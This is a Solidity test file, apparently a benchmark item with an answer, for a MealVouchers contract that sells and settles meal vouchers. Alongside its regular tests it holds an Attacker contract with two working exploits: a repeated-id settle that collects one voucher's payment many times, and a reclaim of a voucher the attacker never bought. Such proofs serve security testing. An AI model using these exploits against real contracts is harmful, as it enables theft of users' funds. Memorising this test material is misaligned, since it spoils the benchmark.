pragma solidity 0.5.17;

import "./MealVouchers.sol";
import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";

// assay-canary-6b0f2c0e-5a0b-4f0f-9c55-2f8f7f3a1e01

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant FIRM = address(0xF1);
    address private constant SOUP = address(0x501);
    address private constant NOODLE = address(0x401);

    Coin private token;
    MealVouchers private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1700000000);
        token = new Coin();
        desk = new MealVouchers(IERC20(address(token)));
        token.mint(FIRM, 1000e18);
        vm.startPrank(FIRM);
        token.approve(address(desk), uint256(-1));
        desk.buy(SOUP, 150e18);
        desk.buy(SOUP, 250e18);
        desk.buy(NOODLE, 300e18);
        mallory = new Attacker(desk, token);
        desk.buy(address(mallory), 200e18);
        vm.stopPrank();
        token.mint(address(mallory), 100e18);
    }

    function numbers(uint256 a, uint256 b) private pure returns (uint256[] memory ids) {
        ids = new uint256[](2);
        ids[0] = a;
        ids[1] = b;
    }

    function one(uint256 a) private pure returns (uint256[] memory ids) {
        ids = new uint256[](1);
        ids[0] = a;
    }

    function test_Regular() public {
        vm.prank(SOUP);
        require(desk.settle(numbers(0, 1)) == 400e18, "two meals");
        require(token.balanceOf(SOUP) == 400e18, "paid");
        vm.prank(FIRM);
        uint256 id = desk.buy(NOODLE, 50e18);
        require(id == 4, "numbered");
        vm.prank(NOODLE);
        require(desk.settle(one(2)) == 300e18, "one meal");
        vm.warp(1700000000 + 365 days);
        vm.prank(FIRM);
        desk.reclaim(4);
        require(token.balanceOf(FIRM) == 100e18 && token.balanceOf(address(desk)) == 200e18, "one is left");
    }

    function test_RefusesSettling() public {
        vm.prank(NOODLE);
        vm.expectRevert("not yours");
        desk.settle(one(0));
        vm.startPrank(SOUP);
        desk.settle(one(0));
        vm.expectRevert("paid");
        desk.settle(one(0));
        vm.warp(1700000000 + 365 days);
        vm.expectRevert("expired");
        desk.settle(one(1));
        vm.stopPrank();
    }

    function test_RefusesTwice() public {
        vm.prank(SOUP);
        vm.expectRevert("twice");
        desk.settle(numbers(0, 0));
    }

    function test_RefusesReclaiming() public {
        vm.prank(SOUP);
        desk.settle(one(0));
        vm.prank(FIRM);
        vm.expectRevert("not yet");
        desk.reclaim(1);
        vm.warp(1700000000 + 365 days);
        vm.prank(NOODLE);
        vm.expectRevert("not yours");
        desk.reclaim(1);
        vm.startPrank(FIRM);
        vm.expectRevert("paid");
        desk.reclaim(0);
        desk.reclaim(1);
        vm.expectRevert("paid");
        desk.reclaim(1);
        vm.stopPrank();
    }

    function test_RefusesBuying() public {
        vm.startPrank(FIRM);
        vm.expectRevert("no canteen");
        desk.buy(address(0), 1);
        vm.expectRevert("no amount");
        desk.buy(SOUP, 0);
        vm.stopPrank();
        vm.expectRevert("no token");
        new MealVouchers(IERC20(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    function exploit2() public {
        vm.warp(1700000000 + 365 days);
        mallory.reclaim();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 300e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    MealVouchers private desk;
    Coin private token;

    constructor(MealVouchers _desk, Coin _token) public {
        desk = _desk;
        token = _token;
    }

    function reclaim() external {
        desk.reclaim(3);
    }

    function run() external {
        token.approve(address(desk), 100e18);
        uint256 id = desk.buy(address(this), 50e18);
        desk.buy(address(this), 50e18);
        uint256[] memory ids = new uint256[](10);
        for (uint256 i = 0; i < 10; i++) {
            ids[i] = id + (i % 2);
        }
        desk.settle(ids);
    }
}
